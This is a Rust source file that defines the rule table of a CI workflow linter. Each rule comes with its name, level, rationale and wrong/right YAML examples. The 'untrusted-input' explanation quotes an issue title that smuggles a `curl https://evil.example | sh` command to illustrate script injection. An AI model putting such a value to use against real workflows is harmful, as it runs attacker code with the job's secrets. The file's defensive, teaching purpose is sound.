//! Every rule, in the order of the docs.
//!
//! Purpose: names, defaults, texts and examples. Owner: [`Rule::about`].
//! Invariant: the order is that of [`Rule`], which a test looks at.

mod of_values;

use super::{
    About, Example, Frame,
    Level::{Off, Warn},
    Rule,
};

const fn of(frame: Frame, text: &'static str) -> Example {
    Example { frame, text }
}

const fn steps(text: &'static str) -> Example {
    of(Frame::Steps, text)
}

const fn job(text: &'static str) -> Example {
    of(Frame::Job, text)
}

const fn on(text: &'static str) -> Example {
    of(Frame::On, text)
}

const fn action(text: &'static str) -> Example {
    of(Frame::Action, text)
}

pub(super) static TABLE: [About; 40] = [
    About {
        rule: Rule::UntrustedInput,
        name: "untrusted-input",
        level: Warn,
        finds: "text of strangers that becomes part of a script",
        costs: "`${{ }}` is put into a script before a shell reads it: an issue with the title `\"; curl \
                https://evil.example | sh; \"` runs what it says, with the job's token and secrets. So it is \
                with bodies and titles of issues, pull requests, comments and reviews, names of branches that \
                pull requests come from, and messages and authors of commits, in `run` and in `script` of \
                `actions/github-script`. What a shell reads from a variable, `$TITLE`, is never code; \
                `${{ env.TITLE }}` is put into the script like everything else.",
        wrong: steps(
            r#"- run: echo "new issue ${{ github.event.issue.title }}"
"#,
        ),
        right: steps(
            r#"- run: echo "new issue $ISSUE_TITLE"
  env:
    ISSUE_TITLE: ${{ github.event.issue.title }}
"#,
        ),
    },
    About {
        rule: Rule::SecretInIf,
        name: "secret-in-if",
        level: Warn,
        finds: "`secrets` in an `if`",
        costs: "GitHub refuses the workflow. Forgejo takes it, so that nothing is said of files below `.forgejo` and \
                `.gitea`, unless the rule is an error. A boolean in `env` works on both.",
        wrong: steps(
            "- if: secrets.KEY != ''
  run: ./publish
",
        ),
        right: steps(
            r#"- env:
    KEY: ${{ secrets.KEY }}
  run: |
    if [ -n "$KEY" ]; then ./publish; fi
"#,
        ),
    },
    of_values::PASSWORD_IN_CLEAR,
    About {
        rule: Rule::UnpinnedAction,
        name: "unpinned-action",
        level: Off,
        finds: "an action, workflow or image that is not named by its commit or digest",
        costs: "Tags and branches move: who takes over the repository of an action, or an account that can push \
                there, runs code in every workflow that uses it. A commit cannot change.",
        wrong: steps("- uses: actions/checkout@v4\n"),
        right: steps("- uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4\n"),
    },
    About {
        rule: Rule::IfAlwaysTrue,
        name: "if-always-true",
        level: Warn,
        finds: "an `if` with text around its `${{ }}`, that is a text, or with a text that is compared with nothing",
        costs: "What stands outside of `${{ }}` makes the whole a text, and text that is not empty is true: the \
                step always runs. So it is with a blank in quotes, and with the line feed at the end of a `|` \
                block, with an `if` all of which stands in single quotes of expressions, and with an object. In `x == 'a' || 'b'` the \
                `'b'` is true by itself.",
        wrong: steps(
            "- if: ${{ github.ref }} == 'refs/heads/main'
  run: ./publish
",
        ),
        right: steps(
            "- if: github.ref == 'refs/heads/main'
  run: ./publish
",
        ),
    },
    of_values::NEVER_EQUAL,
    About {
        rule: Rule::MatrixInJobIf,
        name: "matrix-in-job-if",
        level: Warn,
        finds: "`matrix` or `strategy` in a job's `if`",
        costs: "Servers look at a job's `if` before there is a matrix, and refuse the workflow.",
        wrong: job("strategy:
  matrix:
    os: [debian, alpine]
if: matrix.os == 'debian'
"),
        right: job("strategy:
  matrix:
    os: [debian, alpine]
    exclude:
      - os: alpine
"),
    },
    About {
        rule: Rule::EnvInJobIf,
        name: "env-in-job-if",
        level: Warn,
        finds: "`env` in a job's `if`",
        costs: "GitHub refuses the workflow: it looks at a job's `if` before there is an environment. Forgejo takes it, so \
                that nothing is said of files below `.forgejo` and `.gitea`, unless the rule is an error.",
        wrong: job("env:
  TARGET: test
if: env.TARGET == 'test'
"),
        right: job("if: vars.TARGET == 'test'\n"),
    },
    About {
        rule: Rule::HalfExpression,
        name: "half-expression",
        level: Warn,
        finds: "an expression that lacks its `$` or a brace, and so is text",
        costs: "Only `${{` begins an expression. `${ github.sha }}` and `{{ github.sha }}` reach the program as they \
                are written; a shell fails over the first, and the second is taken for a name.",
        wrong: steps("- run: echo \"of ${ github.sha }}\"\n"),
        right: steps("- run: echo \"of ${{ github.sha }}\"\n"),
    },
    About {
        rule: Rule::UnknownProperty,
        name: "unknown-property",
        level: Warn,
        finds: "a step, a need, an output, an input or a value of the matrix that is not there, or a property of a text",
        costs: "What is not there is empty, and the step runs all the same: with an empty version, or not at all, by \
                an `if` that is never true. Of `github`, `runner` and `strategy`, to which servers add, only what is \
                near a known name is told.",
        wrong: steps(
            r#"- id: version
  run: echo "tag=$(git describe)" >> "$GITHUB_OUTPUT"
- run: ./publish "${{ steps.verson.outputs.tag }}"
"#,
        ),
        right: steps(
            r#"- id: version
  run: echo "tag=$(git describe)" >> "$GITHUB_OUTPUT"
- run: ./publish "${{ steps.version.outputs.tag }}"
"#,
        ),
    },
    of_values::OBJECT_AS_TEXT,
    About {
        rule: Rule::RetiredCommand,
        name: "retired-command",
        level: Warn,
        finds: "`set-output`, `save-state`, `set-env` and `add-path` in a script",
        costs: "GitHub has retired `set-output` and `save-state`, and every server refuses `set-env` and \
                `add-path`: whatever a program prints would be obeyed, also the title of an issue. Files take \
                their place.",
        wrong: steps(
            r#"- id: version
  run: echo "::set-output name=tag::$(git describe)"
"#,
        ),
        right: steps(
            r#"- id: version
  run: echo "tag=$(git describe)" >> "$GITHUB_OUTPUT"
"#,
        ),
    },
    About {
        rule: Rule::LostPipeFailure,
        name: "lost-pipe-failure",
        level: Off,
        finds: "a pipe in a step without `shell` whose left side can fail",
        costs: "A step without `shell` runs `bash -e` without `pipefail`: `make | tee log` is good where `make` \
                failed. `shell: bash` adds `-o pipefail`. Many pipes are meant so, which is why it is off.",
        wrong: steps("- run: make test | tee test.log\n"),
        right: steps(
            "- shell: bash
  run: make test | tee test.log
",
        ),
    },
    About {
        rule: Rule::ConstantCacheKey,
        name: "constant-cache-key",
        level: Warn,
        finds: "a key of `actions/cache` that is the same in every run",
        costs: "A cache is saved once for each key and never changed. A key that names only the machine keeps \
                what the first run left, forever.",
        wrong: steps(
            "- uses: actions/cache@v4
  with:
    path: ~/.cargo
    key: cargo-${{ runner.os }}
",
        ),
        right: steps(
            "- uses: actions/cache@v4
  with:
    path: ~/.cargo
    key: cargo-${{ runner.os }}-${{ hashFiles('**/Cargo.lock') }}
    restore-keys: cargo-${{ runner.os }}-
",
        ),
    },
    About {
        rule: Rule::LooseInclude,
        name: "loose-include",
        level: Warn,
        finds: "an entry of `include` that names no variable of the matrix",
        costs: "GitHub adds such an entry to every job of the matrix, Forgejo makes a job of its own of it, \
                without the other variables.",
        wrong: job("strategy:
  matrix:
    os: [debian, alpine]
    include:
      - mode: release
"),
        right: job("strategy:
  matrix:
    os: [debian, alpine]
    mode: [release]
"),
    },
    of_values::IDLE_EXCLUDE,
    of_values::REPEATED_VALUE,
    of_values::NUMBER_AS_VERSION,
    of_values::OCTAL_NUMBER,
    of_values::NUMBER_WITH_UNDERSCORES,
    of_values::DATE_AS_TEXT,
    of_values::YES_OR_NO,
    About {
        rule: Rule::HashBeginsComment,
        name: "hash-begins-comment",
        level: Warn,
        finds: "` #` and a digit in a value without quotes",
        costs: "A `#` behind a blank begins a comment, and the rest of the line is gone.",
        wrong: steps("- name: Fix #12\n  run: make\n"),
        right: steps("- name: 'Fix #12'\n  run: make\n"),
    },
    About {
        rule: Rule::IgnoredByForgejo,
        name: "ignored-by-forgejo",
        level: Warn,
        finds: "a key that Forgejo reads over: `permissions`, `environment` and others",
        costs: "Who relies on it has nothing: a token has the rights that it has, and no environment asks for a \
                review. Turn the rule off for files that only GitHub reads.",
        wrong: job("environment: production\n"),
        right: job("env:
  TARGET: production
"),
    },
    About {
        rule: Rule::GithubOnly,
        name: "github-only",
        level: Warn,
        finds: "a key or a form that Forgejo's runner refuses",
        costs: "The workflow does not run on Forgejo. Turn the rule off for files that only GitHub reads.",
        wrong: job("services:
  db:
    image: postgres
    entrypoint: /start
"),
        right: job("services:
  db:
    image: postgres
"),
    },
    About {
        rule: Rule::GithubOnlyEvent,
        name: "github-only-event",
        level: Warn,
        finds: "an event that only GitHub has",
        costs: "On Forgejo nothing ever starts the workflow for it. An event that nobody has is an error.",
        wrong: on("on: [push, merge_group]\n"),
        right: on("on: [push, pull_request]\n"),
    },
    About {
        rule: Rule::UnknownActivity,
        name: "unknown-activity",
        level: Warn,
        finds: "an activity in `types` that the event does not have",
        costs: "It never starts the workflow, and nothing says so.",
        wrong: on("on:
  issues:
    types: [open]
"),
        right: on("on:
  issues:
    types: [opened]
"),
    },
    About {
        rule: Rule::AdmitsNothing,
        name: "admits-nothing",
        level: Warn,
        finds: "a filter, a pattern of it or an event that nothing can be like",
        costs: "Patterns with `!` take out of what the ones before them let in: where none lets in anything, nothing \
                starts the workflow. Neither does a regular expression, a path that begins with `./` or `/`, a branch \
                that begins with `refs/heads/`, or what only webhooks call so, such as `action_run_failure`.",
        wrong: on("on:
  push:
    branches: ['!wip/**']
"),
        right: on("on:
  push:
    branches: ['**', '!wip/**']
"),
    },
    About {
        rule: Rule::CronNever,
        name: "cron-never",
        level: Warn,
        finds: "a cron expression of which no year has a time",
        costs: "The workflow never starts.",
        wrong: on("on:
  schedule:
    - cron: '0 0 31 2 *'
"),
        right: on("on:
  schedule:
    - cron: '0 0 28 2 *'
"),
    },
    About {
        rule: Rule::NotEvaluated,
        name: "not-evaluated",
        level: Warn,
        finds: "`${{ }}` where nothing is evaluated",
        costs: "Filters of `on` and names of variables are taken as they are written, with the `${{`.",
        wrong: on("on:
  push:
    branches: ['${{ vars.MAIN }}']
"),
        right: on("on:
  push:
    branches: [main]
"),
    },
    About {
        rule: Rule::IdleKey,
        name: "idle-key",
        level: Warn,
        finds: "a key, or an argument of `format`, that does nothing where it stands",
        costs: "Jobs of a called workflow do not see the `env` of the job that calls it, `options` count only \
                with `type: choice`, `pre-if` only with `pre`, and `workflow_dispatch` has no `branches`. An argument of \
                `format` whose number the text does not have is nowhere in the result.",
        wrong: job("uses: ./.forgejo/workflows/deploy.yml
env:
  TARGET: test
"),
        right: job("uses: ./.forgejo/workflows/deploy.yml
with:
  target: test
"),
    },
    About {
        rule: Rule::UntypedInput,
        name: "untyped-input",
        level: Warn,
        finds: "an input of `workflow_call` without `type`, or one of `workflow_dispatch` of a type that there is not",
        costs: "Without `type` GitHub refuses the workflow, and Forgejo takes the input as text. A type that there is not is text to both.",
        wrong: on("on:
  workflow_call:
    inputs:
      target:
        required: true
"),
        right: on("on:
  workflow_call:
    inputs:
      target:
        type: string
        required: true
"),
    },
    About {
        rule: Rule::UndeclaredSecret,
        name: "undeclared-secret",
        level: Warn,
        finds: "a secret that the called workflow does not declare",
        costs: "GitHub refuses the call, Forgejo passes the secret on.",
        wrong: job("uses: ./.forgejo/workflows/deploy.yml
secrets:
  kye: ${{ secrets.KEY }}
"),
        right: job("uses: ./.forgejo/workflows/deploy.yml
secrets:
  key: ${{ secrets.KEY }}
"),
    },
    About {
        rule: Rule::NamesByCase,
        name: "names-by-case",
        level: Warn,
        finds: "two names (inputs, outputs, variables of a matrix, ...) that differ only by case",
        costs: "Names compare without case: one hides the other, and GitHub refuses the file. Nothing is said of `env` \
                in files below `.forgejo` and `.gitea`: there they are two.",
        wrong: action(
            "name: Build
inputs:
  target: {}
  Target: {}
runs:
  using: node20
  main: index.js
",
        ),
        right: action(
            "name: Build
inputs:
  target: {}
runs:
  using: node20
  main: index.js
",
        ),
    },
    of_values::ACTION_INPUTS,
    of_values::MISSING_ACTION,
    About {
        rule: Rule::MissingShell,
        name: "missing-shell",
        level: Warn,
        finds: "a `run` step of an action without `shell`",
        costs: "GitHub refuses the action, Forgejo takes bash.",
        wrong: action(
            "name: Build
runs:
  using: composite
  steps:
    - run: make
",
        ),
        right: action(
            "name: Build
runs:
  using: composite
  steps:
    - run: make
      shell: bash
",
        ),
    },
    About {
        rule: Rule::EmptyOutput,
        name: "empty-output",
        level: Warn,
        finds: "an output of a composite action without `value`",
        costs: "It is always empty.",
        wrong: action(
            "name: Build
outputs:
  path:
    description: what was made
runs:
  using: composite
  steps:
    - id: make
      run: make
      shell: bash
",
        ),
        right: action(
            "name: Build
outputs:
  path:
    description: what was made
    value: ${{ steps.make.outputs.path }}
runs:
  using: composite
  steps:
    - id: make
      run: make
      shell: bash
",
        ),
    },
    About {
        rule: Rule::ActionMetadata,
        name: "action-metadata",
        level: Warn,
        finds: "a key, a colour or a `required` of an action.yml that nobody knows",
        costs: "Servers read over it: a typing error shows itself by nothing happening.",
        wrong: action(
            "name: Build
inputs:
  target:
    requierd: true
runs:
  using: node20
  main: index.js
",
        ),
        right: action(
            "name: Build
inputs:
  target:
    required: true
runs:
  using: node20
  main: index.js
",
        ),
    },
    About {
        rule: Rule::AllowComment,
        name: "allow-comment",
        level: Warn,
        finds: "a comment `ampoule: allow` without a reason, or that silences nothing",
        costs: "An exception that gives no reason cannot be judged, and one that silences nothing hides what \
                comes later.",
        wrong: steps(
            "# ampoule: allow hash-begins-comment
- name: Fix #12
  run: make
",
        ),
        right: steps(
            "# ampoule: allow hash-begins-comment: 12 is the ticket, and the name is to end there
- name: Fix #12
  run: make
",
        ),
    },
];
